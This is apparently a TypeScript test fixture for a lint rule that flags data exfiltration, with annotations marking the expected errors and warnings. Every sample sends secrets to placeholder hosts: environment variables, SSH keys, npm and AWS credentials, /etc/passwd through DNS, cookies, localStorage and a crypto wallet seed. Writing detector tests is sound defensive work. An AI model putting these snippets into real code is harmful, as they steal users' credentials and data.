import { exec, execSync } from 'node:child_process';
import dns from 'node:dns';
import fs from 'node:fs';
import https from 'node:https';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import axios from 'axios';

fetch('https://collect.example.invalid/e', { method: 'POST', body: JSON.stringify(process.env) });
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

axios.post('https://collect.example.invalid/e', { ...process.env });
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

const request = https.request({ hostname: 'collect.example.invalid', method: 'POST', path: '/e' });
request.write(JSON.stringify({ host: os.hostname(), environment: process.env }));
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error
request.end();

https.get('https://collect.example.invalid/?d=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

fetch('https://collect.example.invalid/k', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')) });
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

const npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');
axios.post('https://collect.example.invalid/n', { npmrc });
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

axios.post('https://discord.com/api/webhooks/0/inert', { content: os.userInfo().username });
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

dns.lookup(Buffer.from(fs.readFileSync('/etc/passwd')).toString('hex').slice(0, 60) + '.d.example.invalid', () => undefined);
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

exec('curl -F file=@$HOME/.aws/credentials https://collect.example.invalid/a');
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

execSync('env | curl -d @- https://collect.example.invalid/a');
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

axios.post('https://collect.example.invalid/t', { aws: process.env.AWS_SECRET_ACCESS_KEY, npm: process.env.NPM_TOKEN });
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

navigator.sendBeacon('https://collect.example.invalid/c', document.cookie);
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: error

export function keep(): void {
  const socket = net.connect(8080, '192.0.2.7');
  socket.write(JSON.stringify(Object.entries(process.env)));
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
}

export async function wallet(): Promise<void> {
  const store = fs.readFileSync(path.join(os.homedir(), 'AppData/Roaming/Exodus/exodus.wallet/seed.seco'));
  await fetch('https://collect.example.invalid/w', { method: 'POST', body: store });
//      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
}

export function session(): void {
  const call = new XMLHttpRequest();
  call.open('POST', 'https://collect.example.invalid/s');
  call.send(JSON.stringify(localStorage));
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
}

export async function everything(): Promise<void> {
  let text = '';
  for (const name in process.env) text += `${name}=${process.env[name]}\n`;
  await fetch('https://collect.example.invalid/e', { method: 'POST', body: text });
//      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
}

export function chosen(): void {
  const found = Object.fromEntries(Object.entries(process.env).filter(([name]) => /TOKEN|KEY/.test(name)));
  axios.post('https://collect.example.invalid/e', found);
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
}

export function picture(): void {
  new Image().src = `https://collect.example.invalid/i?c=${document.cookie}`;
  //          ^^^^ todo: exfiltration
}
